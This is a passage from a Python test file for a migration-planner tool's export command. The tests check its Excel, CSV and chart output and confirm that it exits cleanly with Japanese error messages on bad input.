    assert any("工程表を計算できませんでした" in n for n in result.notes)
    wb = openpyxl.load_workbook(result.workbook)
    texts = [c.value for row in wb["標準化スケジュール"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("循環する連携" in t for t in texts)
    about = [c.value for row in wb["説明"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("循環する連携" in t for t in about)


# ---------------------------------------------------------------- the command line
def _cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "migration_planner", "export", *args], capture_output=True,
                          text=True, timeout=300, cwd=cwd, env={**os.environ, "PYTHONIOENCODING": "utf-8"})


@pytest.mark.slow
def test_cli_writes_the_workbook_csv_and_charts(tmp_path):
    plan = _make_plan(tmp_path / "p.mplan")
    plan.close()
    proc = _cli("--plan", str(tmp_path / "p.mplan"), "--out", str(tmp_path / "out.xlsx"), "--scenario", PESSIMISTIC,
                "--csv-dir", str(tmp_path / "csv"), "--charts-dir", str(tmp_path / "charts"), "--samples", "50",
                "--as-of", "2025-10-01")
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "out.xlsx").exists() and len(list((tmp_path / "csv").glob("*.csv"))) == 6
    assert len(list((tmp_path / "charts").glob("*.pdf"))) == 3
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx")["補助金試算"]
    assert [c.value for c in ws[4]][1:3] == ["ベースライン", PESSIMISTIC]   # --scenario: with the baseline
    assert ws["D4"].value in (None, "説明")


@pytest.mark.slow
def test_cli_bad_input_exits_2_with_a_japanese_message_and_no_traceback(tmp_path):
    plan = Plan.open(str(tmp_path / "p.mplan"))
    plan.close()
    cases = [
        (["--out", str(tmp_path / "o.xlsx"), "--scenario", "存在しない"], "シナリオ「存在しない」はありません"),
        (["--out", str(tmp_path / "no" / "o.xlsx")], "がありません"),
        (["--out", str(tmp_path / "o.txt")], ".xlsx"),
        ([], "--out"),
        (["--out", str(tmp_path / "o.xlsx"), "--as-of", "昨日"], "--as-of"),
        (["--csv-dir", str(tmp_path / "p.mplan")], "フォルダではありません"),
        (["--out", str(tmp_path / "p.mplan" / "o.xlsx")], "フォルダ"),
    ]
    for extra, message in cases:
        proc = _cli("--plan", str(tmp_path / "p.mplan"), "--samples", "0", *extra)
        assert proc.returncode == 2, (extra, proc.stderr)
        assert message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    proc = _cli("--plan", str(tmp_path / "none.mplan"), "--out", str(tmp_path / "o.xlsx"))
    assert proc.returncode == 2 and "見つかりません" in proc.stderr
    assert not (tmp_path / "o.xlsx").exists()


@pytest.mark.slow
def test_cli_unwritable_folder_exits_2(tmp_path):
    plan = Plan.open(str(tmp_path / "p.mplan"))
    plan.close()
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        if os.access(ro, os.W_OK):
            pytest.skip("running as a user who can write anywhere (root): a read-only folder cannot be made; "
                        "test_a_folder_without_write_permission_is_refused covers the check in-process")
        proc = _cli("--plan", str(tmp_path / "p.mplan"), "--out", str(ro / "o.xlsx"), "--samples", "0")
        assert proc.returncode == 2 and "権限" in proc.stderr and "Traceback" not in proc.stderr
    finally:
        ro.chmod(0o755)
